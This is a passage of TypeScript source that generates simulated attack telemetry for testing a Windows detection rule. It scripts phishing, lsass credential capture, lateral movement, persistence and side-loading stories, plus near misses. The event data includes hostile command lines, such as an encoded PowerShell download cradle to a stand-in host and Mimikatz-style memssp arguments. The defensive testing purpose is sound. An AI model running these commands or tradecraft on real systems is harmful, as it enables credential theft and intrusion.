/**
 * The demo's scripted stories: true positives of the seed rule (v111, "Unusual Executable
 * File Creation by a System Critical Process") with their process trees and follow-on
 * activity, and near misses that must not fire. Which events fire is decided here, by the
 * plan, never by running the rule.
 */
import type { StoredEvent } from '../events/types';
import { logonId } from './model';
import { Rng } from './rng';
import { Actor, DAY, HOUR, MINUTE, type Session, type Sim } from './sim';
import { type DemoUser, EXE, type Executable, fileHashes, hostByName, USERS } from './world';

export interface EventRef {
  _index: string;
  _id: string;
}

/** A story's key event, with what a person (or an e2e test) sees of it in an alert list. */
export interface StoryEventRef extends EventRef {
  /** process.name of the writer (the same for any seed or `now`) */
  processName: string | null;
  /** file.path written, deleted or loaded (the same for any seed or `now`) */
  filePath: string | null;
}

export interface DemoStory {
  id: string;
  title: string;
  /** host.name of the host the story happens on */
  host: string;
  /** the acting account (domain\name) */
  user: string;
  /** 'alert': the seed rule must fire on `mustFire`; 'near-miss': it must fire on nothing here */
  expected: 'alert' | 'near-miss';
  /** events the seed rule (v111) must alert on */
  mustFire: StoryEventRef[];
  /** events that look close but must not alert */
  mustNotFire: StoryEventRef[];
  /** every event the story wrote (context included), time-ordered */
  events: EventRef[];
  /** ISO time of the story's key event */
  at: string;
  /** one line for people */
  description: string;
}

interface StoryPlan {
  id: string;
  title: string;
  host: string;
  expected: DemoStory['expected'];
  description: string;
  run(c: StoryCtx): { user: DemoUser; at: number } | null;
}

/** facts one story hands to a later one (runStories creates one per run) */
interface Shared {
  /** when the admin credentials stolen in S1 are used on the file server (S2) */
  lateralStart: number;
  /** S1's first lure the day before (session and end of the browser visit), and the session of the macro */
  finLure: { prev: Session; at: number; macroSession: Session; macroAt: number } | null;
  /** S2: when services.exe wrote the first service binary, and the admin's logon id */
  lateralWrite: number;
}

class StoryCtx {
  readonly fire: StoredEvent[] = [];
  readonly quiet: StoredEvent[] = [];
  constructor(
    readonly a: Actor,
    readonly sim: Sim,
    readonly shared: Shared,
  ) {}
  get r(): Rng {
    return this.a.rng;
  }
  markFire(ev: StoredEvent): StoredEvent {
    this.fire.push(ev);
    return ev;
  }
  markQuiet(ev: StoredEvent): StoredEvent {
    this.quiet.push(ev);
    return ev;
  }
}

const ref = (ev: StoredEvent): EventRef => ({ _index: ev._index, _id: ev._id });

function field(ev: StoredEvent, group: string, name: string): string | null {
  const g = ev._source[group];
  if (g === null || typeof g !== 'object' || Array.isArray(g)) return null;
  const v = (g as Record<string, unknown>)[name];
  return typeof v === 'string' ? v : null;
}

const keyRef = (ev: StoredEvent): StoryEventRef => ({
  _index: ev._index,
  _id: ev._id,
  processName: field(ev, 'process', 'name'),
  filePath: field(ev, 'file', 'path'),
});

/** PowerShell's -EncodedCommand: base64 of UTF-16LE */
export function encodePs(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** give an image-load event the DLL's hashes and (missing) signature, as the sensor reports them */
function loadedDll(ev: StoredEvent, hashes: ReturnType<typeof fileHashes>): StoredEvent {
  const dll = ev._source.dll;
  if (dll && typeof dll === 'object' && !Array.isArray(dll)) {
    Object.assign(dll, { hash: { md5: hashes.md5, sha1: hashes.sha1, sha256: hashes.sha256 }, code_signature: { exists: false } });
  }
  return ev;
}

function malware(path: string, description?: string): Executable {
  return { path, signer: null, description, originalFileName: undefined };
}

/** pick a time inside one of the host owner's sessions, falling back to a fresh logon */
function inSession(c: StoryCtx, hostName: string, fromAgo: number, toAgo: number, room: number): { s: Session; t: number } {
  const host = hostByName(hostName);
  const found = c.sim.sessionTime(host, c.sim.now - fromAgo, c.sim.now - toAgo, 20 * MINUTE, room, c.r);
  if (found) return { s: found.session, t: found.t };
  throw new Error(`demo: no session on ${hostName} between ${fromAgo / HOUR}h and ${toAgo / HOUR}h ago`);
}

// ---------------------------------------------------------------------------------------------
// S1 — phishing, credential tooling, then lsass.exe writes an SSP DLL (Elastic Defend)
// ---------------------------------------------------------------------------------------------
const s1: StoryPlan = {
  id: 'lsass-ssp-dll',
  title: 'Phishing macro, credential tooling, then lsass.exe writes a DLL',
  host: 'ws-fin-01',
  expected: 'alert',
  description:
    'A macro document from Outlook starts an encoded PowerShell download cradle that drops a renamed credential tool; the tool patches lsass, which writes mimilsa.log and a new SSP DLL into System32, registered under Lsa\\Security Packages; an admin RDP logon follows.',
  run(c) {
    const { s, t: t0 } = inSession(c, 'ws-fin-01', 46 * HOUR, 22 * HOUR, 2 * HOUR);
    const a = c.a;
    const r = c.r;
    const host = s.host;
    const boot = c.sim.boot(host);
    const outlook = s.apps.outlook ?? s.explorer;
    const user = s.user;
    const c2 = '203.0.113.45';
    const domain = 'cdn.invoice-portal.example';
    const attach = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZD\\Invoice_88231.docm`;
    // the day before: a first lure from the same sender, opened in the browser
    const prev = c.sim.sessionsOf(host).filter((x) => x !== s && x.start < t0 - 12 * HOUR && (x.end ?? t0) > x.start + 3 * HOUR).pop();
    if (prev) {
      let tp = prev.start + 2 * HOUR + r.int(0, 60) * MINUTE;
      const pOutlook = prev.apps.outlook ?? prev.explorer;
      a.create(pOutlook, tp, `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2D9QX41\\Invoice_88231_reminder.pdf`, { size: 61_377, zone: 3 });
      const edge = a.run(prev.explorer, (tp += 35_000), EXE.msedge, `"${EXE.msedge.path}" --single-argument https://${domain}/view?id=88231`, { integrity: 'medium' });
      a.dns(edge, (tp += 700), domain, [c2]);
      a.connect(edge, (tp += 90), c2, 443);
      a.end(edge, (tp += 4 * MINUTE));
      c.shared.finLure = { prev, at: tp, macroSession: s, macroAt: t0 };
    }
    let t = t0;
    a.create(outlook, t, attach, { size: 48_211, zone: 3, headerBytes: '504b030414000600080000002100a1f3' });
    const word = a.run(outlook, (t += 38_000), EXE.winword, `"${EXE.winword.path}" /n "${attach}" /o ""`, { integrity: 'medium' });
    a.create(word, (t += 2_000), `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZD\\~$voice_88231.docm`, { size: 162 });
    const cradle = `IEX (New-Object Net.WebClient).DownloadString('https://${domain}/q/inv.ps1')`;
    const ps = a.run(word, (t += 14_000), EXE.powershell, `powershell.exe -NoP -W Hidden -Enc ${encodePs(cradle)}`);
    a.dns(ps, (t += 900), domain, [c2]);
    a.connect(ps, (t += 150), c2, 443);
    const toolPath = `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\wuaupd.exe`;
    c.markQuiet(a.create(ps, (t += 6_000), toolPath, { size: 1_355_264, headerBytes: '4d5a90000300000004000000ffff0000', zone: 3, hashes: fileHashes('demo-malware:wuaupd') }));
    a.reg(ps, (t += 1_500), {
      path: `HKU\\${user.id}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsUpdateAssist`,
      data: toolPath,
      dataType: 'REG_SZ',
    });
    const tool = a.run(ps, (t += 3_000), malware(toolPath, 'Windows Update Assistant'),
      `"${toolPath}" "privilege::debug" "misc::memssp" "exit"`, { integrity: 'high', hashIdentity: 'demo-malware:wuaupd' });
    a.load(tool, (t += 400), 'C:\\Windows\\System32\\vaultcli.dll');
    a.load(tool, (t += 300), 'C:\\Windows\\System32\\samlib.dll');
    c.markQuiet(a.create(boot.lsass, (t += 4_200), 'C:\\Windows\\System32\\mimilsa.log', { size: 0 }));
    const ssp = 'C:\\Windows\\System32\\mspsync.dll';
    const sspHashes = fileHashes('demo-malware:mspsync');
    c.markFire(a.create(boot.lsass, (t += 5_100), ssp, { size: 38_912, headerBytes: '4d5a90000300000004000000ffff0000', hashes: sspHashes }));
    a.reg(tool, (t += 1_800), {
      path: 'HKLM\\SYSTEM\\ControlSet001\\Control\\Lsa\\Security Packages',
      data: 'kerberos msv1_0 schannel wdigest tspkg pku2u mspsync',
      dataType: 'REG_MULTI_SZ',
    });
    loadedDll(a.load(boot.lsass, (t += 2_500), ssp), sspHashes);
    const cmd = a.run(tool, (t += 9_000), EXE.cmd, 'cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:acme"');
    a.run(cmd, (t += 300), EXE.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1');
    const who = a.run(cmd, (t += 600), EXE.whoami, 'whoami  /all');
    a.end(who, (t += 700));
    const net = a.run(cmd, (t += 300), EXE.net, 'net  group "Domain Admins" /domain');
    const net1 = a.run(net, (t += 100), EXE.net1, 'C:\\Windows\\system32\\net1  group "Domain Admins" /domain');
    a.connect(net1, (t += 200), '10.20.10.5', 445);
    a.end(net1, (t += 900));
    a.end(net, (t += 50));
    const nl = a.run(cmd, (t += 300), EXE.nltest, 'nltest  /dclist:acme');
    a.connect(nl, (t += 200), '10.20.10.5', 389);
    a.end(nl, (t += 600));
    a.end(cmd, (t += 200));
    a.connect(tool, (t += 30_000), c2, 8443);
    a.end(tool, (t += 12_000));
    a.end(ps, (t += 2_000));
    a.end(word, (t += 90_000));
    // an admin answers the user's ticket over RDP: the SSP now sees those credentials
    const adm = USERS.kwilsonAdm;
    const lid = logonId(r);
    const rdp = t0 + 48 * MINUTE + r.int(0, 10) * MINUTE;
    a.auth(host, rdp, { code: 4624, user: adm, logonType: 10, logonId: lid, srcIp: '10.20.1.37', srcWorkstation: 'ws-eng-07', process: boot.winlogon, authPackage: 'Negotiate' });
    a.auth(host, rdp + 4, { code: 4672, user: adm, logonType: 10, logonId: lid });
    a.auth(host, rdp + 21 * MINUTE, { code: 4634, user: adm, logonType: 10, logonId: lid });
    c.shared.lateralStart = rdp + 60 * MINUTE + r.int(0, 30) * MINUTE;
    return { user, at: t0 + 58_000 };
  },
};

// ---------------------------------------------------------------------------------------------
// S2 — lateral movement: services.exe writes a service binary on the file server (Winlogbeat)
// ---------------------------------------------------------------------------------------------
const s2: StoryPlan = {
  id: 'services-lateral-movement',
  title: 'Lateral movement: services.exe writes a service binary on the file server',
  host: 'srv-file-01',
  expected: 'alert',
  description:
    'With the admin credentials captured on ws-fin-01, the attacker logs on over the network (4624 type 3), creates a service, and services.exe writes C:\\Windows\\fshelper.exe, runs it, lets it beacon, and deletes it again; an RDP logon with the same account follows hours later.',
  run(c) {
    const a = c.a;
    const r = c.r;
    const host = hostByName('srv-file-01');
    const boot = c.sim.boot(host);
    const adm = USERS.kwilsonAdm;
    let t = c.shared.lateralStart || c.sim.now - 30 * HOUR;
    const lid = logonId(r);
    a.auth(host, t, { code: 4624, user: adm, logonType: 3, logonId: lid, srcIp: '10.20.1.21', srcWorkstation: 'ws-fin-01', authPackage: 'NTLM' });
    a.auth(host, (t += 3), { code: 4672, user: adm, logonType: 3, logonId: lid });
    const svcKey = 'HKLM\\System\\CurrentControlSet\\Services\\FileSyncHelper';
    a.reg(boot.services, (t += 4_100), { path: `${svcKey}\\ImagePath`, data: '%SystemRoot%\\fshelper.exe', dataType: 'REG_EXPAND_SZ' });
    a.reg(boot.services, (t += 20), { path: `${svcKey}\\Start`, data: '3', dataType: 'REG_DWORD' });
    const bin = 'C:\\Windows\\fshelper.exe';
    c.markFire(a.create(boot.services, (t += 2_900), bin, { size: 221_184 }));
    c.shared.lateralWrite = t;
    const svc = a.run(boot.services, (t += 1_700), malware(bin, 'File Sync Helper'), 'C:\\Windows\\fshelper.exe', { hashIdentity: 'demo-malware:fshelper' });
    a.dns(svc, (t += 900), 'sync.filehelper.example', ['198.51.100.23']);
    a.connect(svc, (t += 120), '198.51.100.23', 443);
    const cmd = a.run(svc, (t += 5_000), EXE.cmd, 'cmd.exe /c "whoami & ipconfig /all & net share"');
    a.end(a.run(cmd, (t += 300), EXE.whoami, 'whoami'), (t += 500));
    a.end(a.run(cmd, (t += 300), EXE.ipconfig, 'ipconfig  /all'), (t += 700));
    const net = a.run(cmd, (t += 300), EXE.net, 'net  share');
    a.end(net, (t += 600));
    a.end(cmd, (t += 200));
    c.markQuiet(a.create(svc, (t += 40_000), 'C:\\Windows\\Temp\\fs.dat', { size: 18_874_368 }));
    a.connect(svc, (t += 5_000), '198.51.100.23', 443);
    a.end(svc, (t += 3 * MINUTE));
    c.markQuiet(a.remove(boot.services, (t += 2_000), bin));
    a.auth(host, (t += 30_000), { code: 4634, user: adm, logonType: 3, logonId: lid });
    const lid2 = logonId(r);
    const later = Math.min(t + 3 * HOUR + r.int(0, 40) * MINUTE, c.sim.windowEnd - 10 * MINUTE);
    a.auth(host, later, { code: 4624, user: adm, logonType: 10, logonId: lid2, srcIp: '10.20.1.21', srcWorkstation: 'ws-fin-01', process: boot.winlogon, authPackage: 'Negotiate' });
    a.auth(host, later + 4, { code: 4672, user: adm, logonType: 10, logonId: lid2 });
    a.auth(host, Math.min(later + 35 * MINUTE, c.sim.windowEnd), { code: 4634, user: adm, logonType: 10, logonId: lid2 });
    return { user: adm, at: t };
  },
};

// ---------------------------------------------------------------------------------------------
// S1b — the first stage the day before S1: a fake invoice viewer sets a logon script, and at the
// next logon userinit.exe writes the loader (Elastic Defend, same host and user as S1)
// ---------------------------------------------------------------------------------------------
const PE_HEADER = '4d5a90000300000004000000ffff0000';

const s1b: StoryPlan = {
  id: 'logon-script-first-stage',
  title: 'First stage: a fake invoice viewer sets a logon script, userinit.exe writes a loader at the next logon',
  host: 'ws-fin-01',
  expected: 'alert',
  description:
    'The reminder lure of the day before lsass-ssp-dll also links an "invoice viewer"; jdoe runs it, it stages a loader and sets HKCU\\Environment\\UserInitMprLogonScript. At the next logon userinit.exe writes C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\WindowsApps\\AcroRdUpd.exe with its side-loaded sqlite3.dll (two alerts, same host, user and process) and runs it through the script, but its C2 name no longer resolves — so that morning the actor sends the macro document instead.',
  run(c) {
    const lure = c.shared.finLure;
    if (!lure) return null;
    const a = c.a;
    const r = c.r;
    const { prev } = lure;
    const host = prev.host;
    const user = prev.user;
    const home = `C:\\Users\\${user.name}`;
    const domain = 'cdn.invoice-portal.example';
    const c2 = '203.0.113.45';
    const loaderHashes = fileHashes('demo-malware:acrordupd');
    const viewerHashes = fileHashes('demo-malware:invoiceviewer');
    const dllHashes = fileHashes('demo-malware:acrordupd-sqlite3');
    let t = lure.at + r.int(2, 6) * MINUTE;
    const outlook = prev.apps.outlook ?? prev.explorer;
    const viewerPath = `${home}\\Downloads\\InvoiceViewer_88231.exe`;
    const edge = a.run(outlook, t, EXE.msedge, `"${EXE.msedge.path}" --single-argument https://${domain}/viewer/InvoiceViewer_88231.exe`, { integrity: 'medium' });
    a.dns(edge, (t += 600), domain, [c2]);
    a.connect(edge, (t += 80), c2, 443);
    a.create(edge, (t += 7_000), viewerPath, { size: 734_208, zone: 3, headerBytes: PE_HEADER, hashes: viewerHashes });
    a.end(edge, (t += 3 * MINUTE));
    const viewer = a.run(prev.explorer, (t += 40_000), malware(viewerPath, 'Invoice Viewer'), `"${viewerPath}" `, { integrity: 'medium', hashIdentity: 'demo-malware:invoiceviewer' });
    const staged = `${home}\\AppData\\Local\\Temp\\~DF7C21.tmp`;
    const script = `${home}\\AppData\\Local\\Temp\\~DF7C21.cmd`;
    a.create(viewer, (t += 1_200), staged, { size: 286_720, headerBytes: PE_HEADER, hashes: loaderHashes });
    a.create(viewer, (t += 200), `${home}\\AppData\\Local\\Temp\\~DF7C22.tmp`, { size: 1_160_192, headerBytes: PE_HEADER, hashes: dllHashes });
    a.create(viewer, (t += 300), script, { size: 214 });
    a.reg(viewer, (t += 500), { path: `HKU\\${user.id}\\Environment\\UserInitMprLogonScript`, data: script, dataType: 'REG_SZ' });
    a.dns(viewer, (t += 2_000), 'upd.invoice-portal.example', []);
    a.end(viewer, (t += 5_000));
    // the next logon runs the script: userinit.exe writes the loader and starts it
    const next = c.sim.sessionsOf(host).find((x) => x.start > t + 10 * MINUTE && x.start <= lure.macroSession.start);
    if (!next) return null;
    const at = next.userinit.start + 900 + r.int(0, 300);
    let tn = at;
    const loader = `${home}\\AppData\\Local\\Microsoft\\WindowsApps\\AcroRdUpd.exe`;
    c.markFire(a.create(next.userinit, tn, loader, { size: 286_720, headerBytes: PE_HEADER, hashes: loaderHashes }));
    // the loader's side-loaded dependency: a second alert, same host, user and process
    const dll = `${home}\\AppData\\Local\\Microsoft\\WindowsApps\\sqlite3.dll`;
    c.markFire(a.create(next.userinit, (tn += 350), dll, { size: 1_160_192, headerBytes: PE_HEADER, hashes: dllHashes }));
    const cmd = a.run(next.userinit, (tn += 400), EXE.cmd, `C:\\Windows\\system32\\cmd.exe /c ""${script}" "`);
    const ld = a.run(cmd, (tn += 600), malware(loader, 'Adobe Acrobat Update Service'), `"${loader}" /silent`, { hashIdentity: 'demo-malware:acrordupd' });
    loadedDll(a.load(ld, (tn += 120), dll), dllHashes);
    for (let i = 0; i < 3; i++) a.dns(ld, (tn += 1_500 + i * 30_000), 'upd.invoice-portal.example', []);
    a.end(ld, (tn += 2_000));
    a.end(cmd, (tn += 100));
    return { user, at };
  },
};

// ---------------------------------------------------------------------------------------------
// S2b — the attacker comes back half an hour later: the same services.exe writes a persistent
// service binary (Winlogbeat; same host and process tree as S2)
// ---------------------------------------------------------------------------------------------
const s2b: StoryPlan = {
  id: 'services-second-service',
  title: 'Lateral movement, second service: services.exe writes an auto-start implant on the file server',
  host: 'srv-file-01',
  expected: 'alert',
  description:
    'Twenty to forty minutes after fshelper.exe (services-lateral-movement), the attacker logs on again with the same admin account and installs an auto-start service: the same services.exe writes C:\\Windows\\System32\\wsyncsvc.exe, starts it as LocalSystem, and it keeps beaconing to the same C2 — same host and same process tree as the first alert.',
  run(c) {
    if (!c.shared.lateralWrite) return null;
    const a = c.a;
    const r = c.r;
    const host = hostByName('srv-file-01');
    const boot = c.sim.boot(host);
    const adm = USERS.kwilsonAdm;
    let t = c.shared.lateralWrite + r.int(20, 40) * MINUTE;
    const lid = logonId(r);
    a.auth(host, t, { code: 4624, user: adm, logonType: 3, logonId: lid, srcIp: '10.20.1.21', srcWorkstation: 'ws-fin-01', authPackage: 'NTLM' });
    a.auth(host, (t += 3), { code: 4672, user: adm, logonType: 3, logonId: lid });
    const svcKey = 'HKLM\\System\\CurrentControlSet\\Services\\WinSyncSvc';
    a.reg(boot.services, (t += 3_600), { path: `${svcKey}\\ImagePath`, data: '%SystemRoot%\\System32\\wsyncsvc.exe', dataType: 'REG_EXPAND_SZ' });
    a.reg(boot.services, (t += 20), { path: `${svcKey}\\Start`, data: '2', dataType: 'REG_DWORD' });
    a.reg(boot.services, (t += 20), { path: `${svcKey}\\ObjectName`, data: 'LocalSystem', dataType: 'REG_SZ' });
    const bin = 'C:\\Windows\\System32\\wsyncsvc.exe';
    const at = (t += 2_400);
    c.markFire(a.create(boot.services, at, bin, { size: 187_904 }));
    const svc = a.run(boot.services, (t += 1_500), malware(bin, 'Windows Sync Service'), 'C:\\Windows\\System32\\wsyncsvc.exe', { hashIdentity: 'demo-malware:wsyncsvc' });
    a.dns(svc, (t += 800), 'sync.filehelper.example', ['198.51.100.23']);
    a.connect(svc, (t += 100), '198.51.100.23', 443);
    const cmd = a.run(svc, (t += 20_000), EXE.cmd, 'cmd.exe /c "sc qc WinSyncSvc & sc query FileSyncHelper"');
    const sc = a.run(cmd, (t += 300), EXE.sc, 'sc  qc WinSyncSvc');
    a.end(sc, (t += 400));
    a.end(cmd, (t += 500));
    a.auth(host, (t += 30_000), { code: 4634, user: adm, logonType: 3, logonId: lid });
    for (let i = 0; i < 4; i++) {
      t += r.int(8, 15) * MINUTE;
      if (t < c.sim.windowEnd) a.connect(svc, t, '198.51.100.23', 443);
    }
    return { user: adm, at };
  },
};

// ---------------------------------------------------------------------------------------------
// S3 — winlogon.exe drops an executable after Userinit tampering (Windows integration Sysmon)
// ---------------------------------------------------------------------------------------------
const s3: StoryPlan = {
  id: 'winlogon-drops-exe',
  title: 'winlogon.exe drops an executable after a USB lure tampers with Userinit',
  host: 'ws-hr-03',
  expected: 'alert',
  description:
    'A shortcut on a USB stick runs rundll32 on a DLL that calls home and rewrites Winlogon\\Userinit; winlogon.exe then writes C:\\ProgramData\\Microsoft\\DeviceSync\\WLMSVC.EXE (and a .log beside it), starts it, and the implant beacons and sprays passwords at the domain controller.',
  run(c) {
    const { s, t: t0 } = inSession(c, 'ws-hr-03', 24 * HOUR, 6 * HOUR, 2 * HOUR);
    const a = c.a;
    const r = c.r;
    const boot = c.sim.boot(s.host);
    let t = t0;
    const cmd = a.run(s.explorer, t, EXE.cmd, '"C:\\Windows\\System32\\cmd.exe" /c start /b rundll32.exe E:\\sys\\benefits.dll,DllRegisterServer', { workingDirectory: 'E:\\' });
    const rd = a.run(cmd, (t += 1_800), EXE.rundll32, 'rundll32.exe  E:\\sys\\benefits.dll,DllRegisterServer');
    a.load(rd, (t += 200), 'E:\\sys\\benefits.dll');
    a.dns(rd, (t += 1_600), 'benefits-portal.example', ['192.0.2.77']);
    a.connect(rd, (t += 100), '192.0.2.77', 443);
    a.reg(rd, (t += 16_000), {
      path: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit',
      data: 'C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\Microsoft\\DeviceSync\\WLMSVC.EXE',
      dataType: 'REG_SZ',
    });
    const implant = 'C:\\ProgramData\\Microsoft\\DeviceSync\\WLMSVC.EXE';
    c.markFire(a.create(boot.winlogon, (t += 4_800), implant, { size: 402_944 }));
    c.markQuiet(a.create(boot.winlogon, (t += 600), 'C:\\ProgramData\\Microsoft\\DeviceSync\\wlmsvc.log', { size: 1_024 }));
    a.end(rd, (t += 3_000));
    a.end(cmd, (t += 100));
    const imp = a.run(boot.winlogon, (t += 9_000), malware(implant, 'Windows Live Mail Sync'), `"${implant}" -k`, { user: s.user, integrity: 'medium', logonId: s.logonId, sessionId: 1, hashIdentity: 'demo-malware:wlmsvc' });
    a.dns(imp, (t += 2_000), 'telemetry.wlms-update.example', ['192.0.2.78']);
    for (let i = 0; i < 4; i++) a.connect(imp, (t += r.int(4, 12) * MINUTE), '192.0.2.78', 8443);
    a.reg(imp, (t += 30_000), {
      path: `HKU\\${s.user.id}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WLMSync`,
      data: `"${implant}" -k`,
      dataType: 'REG_SZ',
    });
    const c2 = a.run(imp, (t += 60_000), EXE.cmd, 'cmd.exe /c "net user /domain & net accounts /domain"');
    const n = a.run(c2, (t += 300), EXE.net, 'net  user /domain');
    a.connect(n, (t += 150), '10.20.10.5', 445);
    a.end(n, (t += 800));
    a.end(c2, (t += 300));
    // password spraying from the implant against the DC
    const dc = hostByName('dc-01');
    for (const victim of [USERS.rpatelAdm, USERS.kwilsonAdm, USERS.svcBackup, USERS.svcSql, USERS.asmith]) {
      a.connect(imp, (t += r.int(20, 60) * 1000), '10.20.10.5', 445);
      a.auth(dc, t + 80, { code: 4625, user: victim, logonType: 3, logonId: '0x0', srcIp: s.host.ip, srcWorkstation: s.host.name, authPackage: 'NTLM' });
    }
    const unlockAt = t + 40 * MINUTE;
    if (unlockAt < (s.end ?? c.sim.windowEnd) - MINUTE) {
      const lid = logonId(r);
      a.auth(s.host, unlockAt, { code: 4624, user: s.user, logonType: 7, logonId: lid, process: boot.winlogon, authPackage: 'Negotiate' });
      a.auth(s.host, unlockAt + 900, { code: 4634, user: s.user, logonType: 7, logonId: lid });
    }
    return { user: s.user, at: t0 + 24_400 };
  },
};

// ---------------------------------------------------------------------------------------------
// S4 — userinit.exe writes a side-loading DLL via a logon script (Endgame)
// ---------------------------------------------------------------------------------------------
const s4: StoryPlan = {
  id: 'userinit-sideload-dll',
  title: 'Logon script persistence: userinit.exe writes a DLL for OneDrive to side-load',
  host: 'ws-lab-12',
  expected: 'alert',
  description:
    'A fake theme installer sets HKCU\\Environment\\UserInitMprLogonScript; at the next logon userinit.exe writes version.dll into the OneDrive folder, runs the script, and OneDrive.exe side-loads the DLL and beacons out. userinit also deletes an older copy (a deletion: no alert).',
  run(c) {
    const a = c.a;
    const r = c.r;
    const host = hostByName('ws-lab-12');
    const sessions = c.sim.sessionsOf(host);
    const now = c.sim.now;
    const idx = sessions.findLastIndex((s) => s.start >= now - 30 * HOUR && s.start <= now - 2 * HOUR);
    const s = idx >= 0 ? sessions[idx] : undefined;
    if (!s) throw new Error('demo: no logon on ws-lab-12 in the last day');
    const prev = idx > 0 ? sessions[idx - 1] : undefined;
    const user = s.user;
    const script = `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\lgn.bat`;
    const sideloadHashes = fileHashes('demo-malware:version-sideload');
    if (prev) {
      let t = Math.max(prev.start + 2 * HOUR, s.start - DAY + 5 * HOUR);
      const edge = a.run(prev.explorer, t, EXE.msedge, `"${EXE.msedge.path}" --single-argument https://themes.free-wallpapers.example/pack/autumn`, { integrity: 'medium' });
      a.dns(edge, (t += 800), 'themes.free-wallpapers.example', ['198.51.100.140']);
      a.connect(edge, (t += 100), '198.51.100.140', 443);
      a.create(edge, (t += 9_000), `C:\\Users\\${user.name}\\Downloads\\ThemePack_Autumn.zip`, { size: 2_311_004, zone: 3 });
      a.end(edge, (t += 4 * MINUTE));
      const ps = a.run(prev.explorer, (t += 2 * MINUTE), EXE.powershell, `"powershell.exe" -ExecutionPolicy Bypass -File C:\\Users\\${user.name}\\Downloads\\ThemePack_Autumn\\install.ps1`);
      a.create(ps, (t += 2_000), script, { size: 312 });
      c.markQuiet(a.create(ps, (t += 500), `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\thm\\version.dll`, { size: 97_280, hashes: sideloadHashes }));
      a.reg(ps, (t += 800), { path: `HKU\\${user.id}\\Environment\\UserInitMprLogonScript`, data: script, dataType: 'REG_SZ' });
      a.end(ps, (t += 1_500));
    }
    let t = s.userinit.start + 1_200;
    const dll = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\OneDrive\\version.dll`;
    c.markQuiet(a.remove(s.userinit, t, `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\OneDrive\\version.old.dll`));
    c.markFire(a.create(s.userinit, (t += 700), dll, { size: 97_280, hashes: sideloadHashes }));
    const cmd = a.run(s.userinit, (t += 500), EXE.cmd, `C:\\Windows\\system32\\cmd.exe /c ""${script}" "`);
    const ps2 = a.run(cmd, (t += 700), EXE.powershell, `powershell.exe -w hidden -c "Start-Sleep 30; Remove-Item '${script}'"`);
    c.markQuiet(a.remove(ps2, (t += 31_000), script));
    a.end(ps2, (t += 400));
    a.end(cmd, (t += 100));
    const od = s.apps.onedrive;
    if (od) {
      loadedDll(a.load(od, Math.max(od.start + 1_000, t + 2_000), dll), sideloadHashes);
      let tb = Math.max(od.start + 5_000, t + 10_000);
      a.dns(od, tb, 'api.sync-cdn.example', ['203.0.113.99']);
      for (let i = 0; i < 3; i++) a.connect(od, (tb += r.int(5, 15) * MINUTE), '203.0.113.99', 443);
    }
    const fs = hostByName('srv-file-01');
    const lid = logonId(r);
    const smb = t + 20 * MINUTE + r.int(0, 600_000);
    a.auth(fs, smb, { code: 4624, user, logonType: 3, logonId: lid, srcIp: host.ip, srcWorkstation: host.name, authPackage: 'Kerberos' });
    a.auth(fs, smb + 11 * MINUTE, { code: 4634, user, logonType: 3, logonId: lid });
    return { user: USERS.tnguyen, at: s.userinit.start + 1_900 };
  },
};

// ---------------------------------------------------------------------------------------------
// S5 — benign true positive: smss.exe writes wpbbin.exe at boot (Windows Platform Binary Table)
// ---------------------------------------------------------------------------------------------
const s5: StoryPlan = {
  id: 'smss-wpbbin-boot',
  title: 'Benign true positive: smss.exe writes wpbbin.exe from firmware at boot',
  host: 'ws-eng-07',
  expected: 'alert',
  description:
    "The laptop's firmware publishes a Windows Platform Binary Table; at boot smss.exe writes C:\\Windows\\System32\\wpbbin.exe and runs it. Rule v111 fires; today's rule excludes exactly this path. A candidate for an exception.",
  run(c) {
    const a = c.a;
    const host = hostByName('ws-eng-07');
    const boot = c.sim.boot(host);
    let t = boot.boot + 3_100;
    const path = 'C:\\Windows\\System32\\wpbbin.exe';
    c.markFire(a.create(boot.smss, t, path, { size: 1_583_104 }));
    const w = a.run(boot.smss, (t += 900), { path, signer: { subject: 'Lenovo', trusted: true, status: 'trusted' }, company: 'Lenovo', description: 'Lenovo Platform Service Installer', originalFileName: 'wpbbin.exe' }, 'C:\\Windows\\system32\\wpbbin.exe', { hashIdentity: 'demo-oem:wpbbin' });
    a.reg(w, (t += 1_200), { path: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\LenovoPlatformSvc\\ImagePath', data: 'C:\\Windows\\System32\\LenovoPlatformSvc.exe', dataType: 'REG_EXPAND_SZ' });
    c.markQuiet(a.create(w, (t += 600), 'C:\\Windows\\System32\\LenovoPlatformSvc.exe', { size: 812_544 }));
    a.end(w, (t += 2_000));
    return { user: USERS.system, at: boot.boot + 3_100 };
  },
};

// ---------------------------------------------------------------------------------------------
// Near misses
// ---------------------------------------------------------------------------------------------
const n1: StoryPlan = {
  id: 'ppldump-services-dmp',
  title: 'Near miss: a protected services.exe writes lsass.dmp (.dmp, not .exe/.dll)',
  host: 'srv-app-02',
  expected: 'near-miss',
  description:
    'An admin RDP session runs a PPLdump-style tool that starts a second services.exe as a protected process and makes it dump lsass to C:\\Users\\Public\\lsass.dmp. Malicious, but the file is a .dmp: the seed rule does not fire (a gap worth knowing).',
  run(c) {
    const a = c.a;
    const r = c.r;
    const host = hostByName('srv-app-02');
    const boot = c.sim.boot(host);
    const adm = USERS.rpatelAdm;
    let t = c.sim.now - 16 * HOUR - r.int(0, 120) * MINUTE;
    const s = logOnRdp(a, host, adm, t, '10.20.1.37', 'ws-eng-07');
    t += 3 * MINUTE;
